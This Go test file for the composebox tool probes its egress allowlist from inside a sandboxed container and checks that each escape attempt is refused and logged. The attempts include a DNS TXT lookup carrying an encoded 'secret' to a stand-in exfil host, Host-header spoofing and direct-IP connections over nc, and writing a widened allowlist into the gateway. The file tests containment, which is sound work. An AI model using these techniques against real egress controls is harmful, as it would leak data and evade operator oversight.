package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/composebox/composebox/internal/testutil"
	"github.com/composebox/composebox/lifecycle"
	"github.com/composebox/composebox/orchestrator"
)

// egressSample is a live restricted sample of a two-service task started by the composebox
// binary with global flags before the verb: its project, a runner of the binary, and an HTTP
// GET from its restricted service ("default"; host is the Host header, at "NAME PORT" where nc
// connects).
type egressSample struct {
	project string
	run     func(args ...string) (string, error)
	exec    func(c, script string) string
	get     func(host, at, path string) string
}

func startEgressSample(t *testing.T, net *testutil.SmallInternet, global ...string) egressSample {
	bin := testutil.StaticComposebox(t)
	dir := t.TempDir()
	task := filepath.Join(dir, "egresstask")
	if err := os.MkdirAll(task, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(task, "compose.yaml"), []byte(`services:
  default:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["sleep", "infinity"]
    x-egress: [pkgs.test]
  helper:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["sleep", "infinity"]
`), 0o644); err != nil {
		t.Fatal(err)
	}
	global = append([]string{"--state-dir", t.TempDir()}, global...)
	run := func(args ...string) (string, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, append(slices.Clone(global), args...)...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		if err != nil {
			err = fmt.Errorf("%v: %s", err, errb.String())
		}
		return strings.TrimSpace(out.String()), err
	}
	taskName := fmt.Sprintf("egress%d-%d", os.Getpid(), time.Now().UnixNano()%100000)
	t.Cleanup(func() {
		out, _ := exec.Command("docker", "ps", "-a", "--filter", "label=dev.composebox.task="+taskName, "--format", `{{.Label "com.docker.compose.project"}}`).Output()
		projects := map[string]bool{}
		for _, p := range strings.Fields(string(out)) {
			projects[p] = true
		}
		if len(projects) == 0 {
			t.Errorf("cleanup found no container of task %s", taskName)
		}
		for p := range projects {
			if _, err := run("down", p); err != nil {
				t.Errorf("down %s: %v", p, err)
			}
		}
	})
	out, err := run("up", "--task", taskName, "--egress", "pkgs.test", "--egress-resolver", net.Addr(53), task)
	if err != nil {
		t.Fatalf("up: %v", err)
	}
	lines := strings.Split(out, "\n")
	project := lines[len(lines)-1]
	ctr := project + "-default-1"
	execIn := func(c, script string) string {
		out, _ := exec.Command("docker", "exec", c, "sh", "-c", script).CombinedOutput()
		return string(out)
	}
	get := func(host, at, path string) string {
		return execIn(ctr, fmt.Sprintf(`printf 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 2>&1`, path, host, at))
	}
	return egressSample{project: project, run: run, exec: execIn, get: get}
}

// TestEgressDockerAttackerSide starts a sample whose compose file asks for x-egress:
// [pkgs.test] with --egress pkgs.test, against a small internet of the test's own, and tries
// every way around the list from inside the sample: each is refused, the outside never sees it,
// and the refusals are egress_denied events. The allowed path works.
func TestEgressDockerAttackerSide(t *testing.T) {
	net := testutil.StartSmallInternet(t)
	es := startEgressSample(t, net)
	project, run, execIn, get := es.project, es.run, es.exec, es.get
	ctr := project + "-default-1"

	if got := get("pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
		t.Fatalf("the allowed name over HTTP: %q", got)
	}
	if got := execIn(ctr, "nslookup other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("a non-listed name resolved: %q", got)
	}
	if got := execIn(ctr, "nslookup -type=TXT c2VjcmV0.exfil.other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("TXT for a subdomain of a non-listed name: %q", got)
	}
	if got := execIn(ctr, "nslookup pkgs.test "+net.Addr(53)); strings.Contains(got, net.Addr(2)) {
		t.Errorf("a direct query to the outside resolver was answered: %q", got)
	}
	if got := get("other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
		t.Errorf("Host of a non-listed name: %q", got)
	}
	if got := get("pkgs.test", net.Addr(2)+" 80", "/direct-ip"); strings.Contains(got, "pkgs /") {
		t.Errorf("a direct connection to the allowed name's address: %q", got)
	}
	if got := get("pkgs.test", "pkgs.test 8080", "/other-port"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name on another port: %q", got)
	}
	if got := get("pkgs.test", net.Addr(2)+" 8080", "/other-port-direct"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name's address on another port: %q", got)
	}
	execIn(ctr, "nslookup -port=443 pkgs.test "+net.Addr(2)+"; nslookup pkgs.test "+net.Addr(2))
	if got := execIn(ctr, "ip -6 route; ip -6 addr show scope global"); strings.Contains(got, "default") || strings.Contains(got, "inet6") {
		t.Errorf("IPv6 around the list: %q", got)
	}
	if got := execIn(project+"-helper-1", "nslookup default"); strings.Contains(got, "NXDOMAIN") || !strings.Contains(got, "Address") {
		t.Errorf("services of the sample no longer reach each other: %q", got)
	}

	queries, hits, udp := net.Seen()
	for _, q := range queries {
		if strings.Contains(q, "other.test") {
			t.Errorf("the outside resolver saw %q", q)
		}
	}
	for _, h := range hits {
		if !strings.HasSuffix(h, "/allowed") && !strings.HasSuffix(h, "/reopened") {
			t.Errorf("the outside served %q", h)
		}
	}
	if udp != 0 {
		t.Errorf("%d UDP datagrams reached the outside", udp)
	}

	var st orchestrator.EgressState
	out, err := run("egress", "-p", project, "--json")
	if err != nil {
		t.Fatalf("egress: %v", err)
	}
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("egress --json: %v\n%s", err, out)
	}
	want := map[string]bool{"dns other.test": false, "dns c2vjcmv0.exfil.other.test": false, "http other.test": false}
	for _, d := range st.Denials {
		k := d.Protocol + " " + d.Name
		if _, ok := want[k]; ok && d.Service == "default" {
			want[k] = true
		}
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("no egress_denied event for %s from service default; denials: %+v", k, st.Denials)
		}
	}
	if got := st.Services["default"]; len(got) != 1 || got[0] != "pkgs.test" {
		t.Errorf("allowlist of default = %v", got)
	}

	// A runner closes the index for the agent, and the name is gone at once.
	if _, err := run("egress", "-p", project, "--close"); err != nil {
		t.Fatalf("egress --close: %v", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/closed"); strings.Contains(got, "pkgs /closed") {
		t.Errorf("after --close the name was still reached: %q", got)
	}
	if _, err := run("egress", "-p", project, "--set", "pkgs.test"); err != nil {
		t.Fatalf("egress --set: %v", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("after --set pkgs.test: %q", got)
	}

	// The task's --egress is the ceiling of every later list: a runner (or whoever holds the
	// project's name) cannot open what the operator did not allow, and nothing changes.
	if len(st.Ceiling) != 1 || st.Ceiling[0] != "pkgs.test" {
		t.Errorf("egress --json ceiling = %v, want [pkgs.test]", st.Ceiling)
	}
	if _, err := run("egress", "-p", project, "--set", "other.test"); err == nil || !strings.Contains(err.Error(), "--egress other.test") {
		t.Errorf("egress --set beyond the task's --egress: %v, want a policy violation naming --egress other.test", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("a refused --set changed the list: %q", got)
	}
	// The gateway holds to the ceiling itself, whoever writes its list: a list naming
	// other.test written straight into it and applied leaves other.test refused.
	gw := project + "-" + lifecycle.EgressGatewayService + "-1"
	dir := t.TempDir()
	gen := fmt.Sprint(time.Now().UnixNano())
	for name, body := range map[string]string{"allow": "other.test\npkgs.test\n", "allow.generation": gen + "\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		if out, err := exec.Command("docker", "cp", filepath.Join(dir, name), gw+":"+filepath.Join(filepath.Dir(lifecycle.EgressAllowFile), name)).CombinedOutput(); err != nil {
			t.Fatalf("docker cp: %v: %s", err, out)
		}
	}
	// Follow the gateway's log until it says it applied this generation.
	lctx, lcancel := context.WithTimeout(context.Background(), time.Minute)
	defer lcancel()
	logs := exec.CommandContext(lctx, "docker", "logs", "-f", gw)
	pipe, err := logs.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := logs.Start(); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("docker", "kill", "--signal", "HUP", gw).CombinedOutput(); err != nil {
		t.Fatalf("docker kill -s HUP: %v: %s", err, out)
	}
	applied := false
	for sc := bufio.NewScanner(pipe); sc.Scan(); {
		if strings.Contains(sc.Text(), `"generation":"`+gen+`"`) {
			applied = true
			break
		}
	}
	lcancel()
	_ = logs.Wait()
	if !applied {
		t.Fatalf("the gateway never applied the list written into it")
	}
	if got := get("other.test", "other.test 80", "/beyond-ceiling"); strings.Contains(got, "other /") {
		t.Errorf("the gateway applied a list beyond the ceiling: %q", got)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("the bounded list lost pkgs.test: %q", got)
	}
}

// TestEgressOverEnginesAttackerSide: over a backend of several engines (here one member, the
// host's engine, through --engine), the sample's gateway runs on its engine and the list holds
// there: a name not listed is refused and reported, the allowed one is reached, and a later
// list stays within the task's --egress.
func TestEgressOverEnginesAttackerSide(t *testing.T) {
	host := os.Getenv("DOCKER_HOST")
	if host == "" {
		host = "unix:///var/run/docker.sock"
	}
	net := testutil.StartSmallInternet(t)
	es := startEgressSample(t, net, "--engine", "host="+host)
	if got := es.get("pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
		t.Fatalf("the allowed name over HTTP: %q", got)
	}
	if got := es.exec(es.project+"-default-1", "nslookup other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("a non-listed name resolved: %q", got)
	}
	if got := es.get("other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
		t.Errorf("Host of a non-listed name: %q", got)
	}
	out, err := es.run("egress", "-p", es.project, "--json")
	if err != nil {
		t.Fatalf("egress: %v", err)
	}
	var st orchestrator.EgressState
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("egress --json: %v\n%s", err, out)
	}
	denied := false
	for _, d := range st.Denials {
		denied = denied || (d.Name == "other.test" && d.Service == "default")
	}
	if !denied || len(st.Ceiling) != 1 {
		t.Errorf("egress over engines: ceiling %v, denials %+v", st.Ceiling, st.Denials)
	}
	if _, err := es.run("egress", "-p", es.project, "--set", "other.test"); err == nil || !strings.Contains(err.Error(), "--egress other.test") {
		t.Errorf("egress --set beyond the task's --egress: %v", err)
	}
	if _, err := es.run("egress", "-p", es.project, "--close"); err != nil {
		t.Fatalf("egress --close: %v", err)
	}
	if got := es.get("pkgs.test", "pkgs.test 80", "/closed"); strings.Contains(got, "pkgs /closed") {
		t.Errorf("after --close the name was still reached: %q", got)
	}
}
